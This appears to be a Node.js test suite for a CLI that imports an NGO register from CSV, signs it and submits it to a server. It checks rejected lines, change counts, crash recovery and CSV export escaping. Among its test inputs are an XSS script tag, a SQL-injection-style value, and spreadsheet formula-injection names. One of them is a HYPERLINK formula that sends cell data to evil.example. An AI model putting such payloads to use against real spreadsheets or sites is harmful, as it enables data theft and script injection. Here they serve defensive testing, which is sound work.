// `dauys register import`: report, difference, confirmation, submission to a running server, and runs that are killed.
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { csv, ngo, ngos } from './ngos.mjs';
import { dauys, root, Server, until } from './server.mjs';

let server, file;
const own = (lines) => lines.filter(Boolean).map((line) => line.trim());
const run = (...args) => server.run('register', 'import', file, '--campaign', server.campaign, ...args);
const staff = (name) => path.join(server.campaign, 'staff', `${name}.pem`);

before(async () => {
  server = await Server.make({ create: ['--phase', 'nomination'] });
  file = path.join(server.folder, 'ngos.csv');
});
after(async () => { await server?.destroy(); });

test('the campaign\'s own register changes nothing', async () => {
  const { json } = await server.get(server.api());
  writeFileSync(file, readFileSync(path.join(server.campaign, 'ledger/files', json.register)));
  const { code, out } = run();
  assert.equal(code, 0, out);
  assert.match(out, /300 NGOs read, 0 lines left out\n0 added, 0 removed, 0 changed\n.*already/);
  assert.ok(!existsSync(`${file}.changes.csv`) && !existsSync(`${file}.rejected.csv`));
});

test('bad lines are listed with line, column and reason, and the rest is taken', () => {
  const rows = ngos(60);
  rows[10].bin = '160340000002';
  rows[20].name_kk = 'a\u202eb';
  rows[30].name_ru = 'e' + '\u0301'.repeat(10000);
  rows[40].status = "ACTIVE'; --";
  rows[50].bin = '😀😀😀😀😀😀😀😀😀😀😀😀';
  rows[55].name_en = 'x'.repeat(5 << 20);
  rows[56].name_ru = '<script>alert(1)</script>';
  writeFileSync(file, csv(rows));
  const { code, out } = run();
  assert.equal(code, 1, out);
  assert.match(out, /54 NGOs read, 6 lines left out/);
  assert.match(out, /nothing was changed; --confirm does it/);
  const report = own(readFileSync(`${file}.rejected.csv`, 'utf8').split('\n'));
  assert.equal(report[0], 'line,column,reason');
  assert.deepEqual(report.slice(1).map((line) => line.split(',').slice(0, 2).join()),
    ['12,bin', '22,name_kk', '32,name_ru', '42,status', '52,bin', '57,name_en']);
  const changes = own(readFileSync(`${file}.changes.csv`, 'utf8').split('\n'));
  assert.equal(changes.length - 1, 54 + 300);
});

test('confirmed, signed and submitted, the server has it at once; again nothing is to do', async () => {
  writeFileSync(file, csv(ngos(500)));
  const { code, out } = run('--confirm', '--key', staff('demo-1'), '--url', server.url);
  assert.equal(code, 0, out);
  assert.match(out, /in the ledger: /);
  const hash = out.match(/^file ([0-9a-f]{64})$/m)[1];
  assert.equal(createHash('sha256').update(readFileSync(path.join(server.campaign, 'ledger/files', hash))).digest('hex'), hash);
  await until(async () => (await server.get(server.api())).json.register === hash, 10, 'the new register');
  const found = await server.get(server.api('/register?q=ngo-499'));
  assert.deepEqual(found.json.items.map((one) => one.id), ['ngo-499']);
  assert.equal((await server.get(server.api('/register/n00001'))).status, 404);
  assert.match(run('--confirm', '--key', staff('demo-1'), '--url', server.url).out, /already/);
});

test('a change is counted by column; a refused key is told', async () => {
  const rows = ngos(500).slice(1);
  rows[3].name_kk = 'Жаңа атау';
  rows[4].laureate = '2024';
  rows.push(ngo(501));
  writeFileSync(file, csv(rows.reverse()));
  const { code, out } = run();
  assert.equal(code, 1);
  assert.match(out, /1 added, 1 removed, 2 changed\n {2}name_kk: 1\n {2}laureate: 1/);
  const refusal = run('--confirm', '--key', staff('demo-moderator'), '--url', server.url);
  assert.equal(refusal.code, 1, refusal.out);
  assert.match(refusal.out, /signer_role/);
  assert.equal(run('--confirm', '--key', staff('demo-1'), '--url', 'http://127.0.0.1:1').code, 2);
});

test('killed at any moment, a run that follows has the same result', async () => {
  writeFileSync(file, csv(ngos(8000)));
  const campaign = path.join(server.folder, 'second');
  execFileSync(dauys, ['campaign', 'create', '--demo', '--phase', 'nomination', campaign], { cwd: root, stdio: 'pipe' });
  const args = ['register', 'import', file, '--campaign', campaign, '--confirm'];
  for (const ms of [5, 20, 50, 80, 110, 140, 170, 200, 240, 280]) {
    const child = spawn(dauys, args, { cwd: root, stdio: 'ignore' });
    const ended = new Promise((resolve) => child.on('exit', resolve));
    const timer = setTimeout(() => child.kill('SIGKILL'), ms);
    await ended;
    clearTimeout(timer);
    for (const name of readdirSync(path.join(campaign, 'ledger/files')).filter((one) => /^[0-9a-f]{64}$/.test(one)))
      assert.equal(createHash('sha256').update(readFileSync(path.join(campaign, 'ledger/files', name))).digest('hex'), name);
  }
  const { code, out } = server.run(...args);
  assert.equal(code, 0, out);
  const other = server.run('register', 'import', file, '--campaign', server.campaign, '--confirm'); // one that was never stopped
  const hash = (text) => text.match(/^file ([0-9a-f]{64})$/m)[1];
  assert.equal(hash(out), hash(other.out));
  const index = (folder) => readFileSync(path.join(folder, 'register', `${hash(out)}.db`));
  assert.deepEqual(index(campaign), index(server.campaign));
});

test('a name that a spreadsheet would run comes as text in what is downloaded, and byte for byte in the ledger\'s file', async () => {
  const rows = ngos(20), names = ['=HYPERLINK("https://evil.example/?"&A1,"x")', '+7 727', '-1', '@SUM(A1)', "a=b'"];
  names.forEach((name, i) => { rows[i].name_en = name; });
  writeFileSync(file, csv(rows));
  const { code, out } = run('--confirm', '--key', staff('demo-1'), '--url', server.url);
  assert.equal(code, 0, out);
  const hash = out.match(/^file ([0-9a-f]{64})$/m)[1];
  await until(async () => (await server.get(server.api())).json.register === hash, 10, 'the new register');
  const { text } = await server.get(server.api('/register.csv'));
  assert.doesNotMatch(text, /(^|,)"?[=+@-]/m);
  for (const part of [`,"'=HYPERLINK(""https`, `,'+7 727,`, `,'-1,`, `,'@SUM(A1),`, `,a=b',`]) assert.ok(text.includes(part), part);
  assert.ok((await server.get(`/demo/ledger/files/${hash}`)).text.includes(',+7 727,'));
});

test('misuse and missing files are said', () => {
  assert.equal(server.run('register').code, 2);
  assert.equal(server.run('register', 'import', '/nothing.csv', '--campaign', server.campaign).code, 2);
  assert.equal(server.run('register', 'import', file, '--campaign', '/nothing').code, 2);
  assert.equal(server.run('register', '--help').code, 0);
});
